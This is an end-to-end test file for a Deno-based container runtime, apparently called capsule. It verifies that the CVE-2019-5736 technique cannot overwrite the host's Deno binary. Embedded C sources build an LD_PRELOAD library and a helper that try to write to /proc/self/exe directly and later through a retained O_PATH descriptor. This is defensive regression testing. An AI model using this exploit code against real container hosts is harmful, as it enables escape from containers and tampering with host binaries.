// CVE-2019-5736 against capsule, end to end (issue 10 item 1): a Debian image (the debootstrap
// rootfs of tests/e2e/rootfs.sh redis, cached) whose entrypoint is a script with
// `#!/proc/self/exe`, run with LD_PRELOAD of a library built here with cc. The kernel runs
// the init's own binary (capsule's Deno) as the container's PID 1, inside the container, with
// the library loaded: it tries to write /proc/self/exe at once, and again through an O_PATH fd
// kept in a child after no process runs the binary any more (the moment a write is no longer
// refused with ETXTBSY). capsule runs on a copy of Deno here, so the attack can only ever hurt
// the copy; the copy's sha256 must be unchanged. Root only.
import { assert, assertEquals, assertMatch, REPO, type Result } from "../helpers.ts";

const HERE = new URL(".", import.meta.url).pathname;
const BUILD = [`${HERE}rootfs.sh`, "redis", "redis-server,redis-tools"];
const dec = new TextDecoder();

function has(path: string): boolean {
  try {
    return Deno.statSync(path).isFile;
  } catch {
    return false;
  }
}

function unavailable(): string | undefined {
  if (Deno.uid() !== 0) return "not root";
  if (!has("/usr/bin/cc")) return "no C compiler (apt-get install gcc)";
  const out = new Deno.Command("bash", { args: [BUILD[0], "--print-path", ...BUILD.slice(1)] })
    .outputSync();
  if (!has(dec.decode(out.stdout).trim()) && !has("/usr/sbin/debootstrap")) {
    return "no cached rootfs tarball and debootstrap is not installed";
  }
  return undefined;
}

const EVIL_C = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void note(const char *when, int err) {
  int fd = open("/x/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  dprintf(fd, "%s %s\n", when, err ? strerrorname_np(err) : "WROTE");
  close(fd);
}

__attribute__((constructor)) static void attack(void) {
  unsetenv("LD_PRELOAD");
  int w = open("/proc/self/exe", O_WRONLY);
  if (w >= 0) {
    (void)!write(w, "PWNED", 5);
    close(w);
    note("now", 0);
  } else {
    note("now", errno);
  }
  int keep = open("/proc/self/exe", O_PATH); /* inherited by the waiter (no O_CLOEXEC) */
  if (fork() == 0) {
    char n[16];
    snprintf(n, sizeof n, "%d", keep);
    execl("/x/waiter", "waiter", n, (char *)0); /* a process that does not run the binary */
    _exit(1);
  }
  execl("/bin/sleep", "sleep", "1000", (char *)0); /* PID 1 stops running the binary */
  _exit(1);
}
`;

/** Keeps the O_PATH fd of the binary and writes through it once no process runs it. */
const WAITER_C = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%s", argv[1]);
  int last = 0;
  for (int i = 0; i < 100; i++) {
    usleep(50000);
    int fd = open(p, O_WRONLY);
    if (fd >= 0) {
      ssize_t n = write(fd, "PWNED", 5);
      last = n == 5 ? 0 : errno;
      close(fd);
      break;
    }
    last = errno;
    if (last != ETXTBSY) break;
  }
  int fd = open("/x/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  dprintf(fd, "later %s\n", last ? strerrorname_np(last) : "WROTE");
  return 0;
}
`;

async function run(argv: string[]): Promise<Result> {
  const out = await Deno.makeTempFile(), err = await Deno.makeTempFile();
  const q = (a: string) => `'${a.replaceAll("'", `'\\''`)}'`;
  try {
    const st = await new Deno.Command("sh", {
      args: ["-c", argv.map(q).join(" ") + ` >${out} 2>${err}`],
      stdin: "null",
    }).output();
    return {
      code: st.code,
      stdout: Deno.readTextFileSync(out),
      stderr: Deno.readTextFileSync(err),
    };
  } finally {
    await Deno.remove(out).catch(() => {});
    await Deno.remove(err).catch(() => {});
  }
}

async function sha256(path: string): Promise<string> {
  const r = await run(["sha256sum", path]);
  return r.stdout.split(" ")[0];
}

const why = unavailable();
if (why && Deno.uid() === 0) console.error(`tests/e2e/exe_overwrite_test.ts ignored: ${why}`);

Deno.test({
  name: "e2e: a #!/proc/self/exe image with LD_PRELOAD cannot rewrite the host's Deno",
  ignore: why !== undefined,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const built = await run(["bash", ...BUILD]);
    assertEquals(built.code, 0, built.stderr);
    const tarball = built.stdout.trim();
    const tmp = await Deno.makeTempDir({ prefix: "capsule-cve-" });
    const root = `${tmp}/state`, store = `${tmp}/store`, x = `${tmp}/x`;
    const deno = `${tmp}/deno`;
    await Deno.mkdir(x);
    await Deno.copyFile(Deno.execPath(), deno);
    await Deno.chmod(deno, 0o755);
    const id = `pwn-${crypto.randomUUID().slice(0, 8)}`;
    const capWith = (bin: string) => (...args: string[]) =>
      run([
        bin,
        "run",
        "-A",
        "--quiet",
        `${REPO}/main.ts`,
        "--root",
        root,
        "--store",
        store,
        ...args,
      ]);
    const cap = capWith(deno);
    // Cleaned up with the real Deno: when the attack succeeds, the copy no longer runs.
    const cleanup = capWith(Deno.execPath());
    try {
      await Deno.writeTextFile(`${tmp}/evil.c`, EVIL_C);
      const cc = await run([
        "cc",
        "-shared",
        "-fPIC",
        "-O1",
        "-o",
        `${x}/evil.so`,
        `${tmp}/evil.c`,
      ]);
      assertEquals(cc.code, 0, cc.stderr);
      await Deno.writeTextFile(`${tmp}/waiter.c`, WAITER_C);
      const cw = await run(["cc", "-O1", "-o", `${x}/waiter`, `${tmp}/waiter.c`]);
      assertEquals(cw.code, 0, cw.stderr);
      await Deno.writeTextFile(`${x}/entry`, "#!/proc/self/exe\n");
      await Deno.chmod(`${x}/entry`, 0o755);
      const before = await sha256(deno);
      const imp = await cap("image", "create", "debian", tarball);
      assertEquals(imp.code, 0, imp.stderr);
      // -d: capsule itself exits, so no process runs the binary once PID 1 has exec'd sleep.
      const r = await cap(
        "image",
        "run",
        "-d",
        "--id",
        id,
        "-v",
        `${x}:/x`,
        "-e",
        "LD_PRELOAD=/x/evil.so",
        "--entrypoint",
        "/x/entry",
        "debian",
      );
      assertEquals(r.code, 0, r.stderr);
      let result = "";
      for (let i = 0; i < 200 && !/later/.test(result); i++) {
        await new Promise((res) => setTimeout(res, 50));
        try {
          result = Deno.readTextFileSync(`${x}/result`);
        } catch { /* not yet */ }
      }
      assertMatch(result, /^now \w+\nlater \w+\n$/, "the attack did not run");
      assert(!result.includes("WROTE"), `the container wrote to the binary:\n${result}`);
      assertMatch(result, /now E(ROFS|PERM)\nlater E(ROFS|PERM)/);
      assertEquals(await sha256(deno), before, "the host's Deno changed");
    } finally {
      await cleanup("image", "destroyc", "-f", id);
      await cleanup("image", "delete", "-f", "debian");
      await Deno.remove(tmp, { recursive: true }).catch(() => {});
    }
  },
});
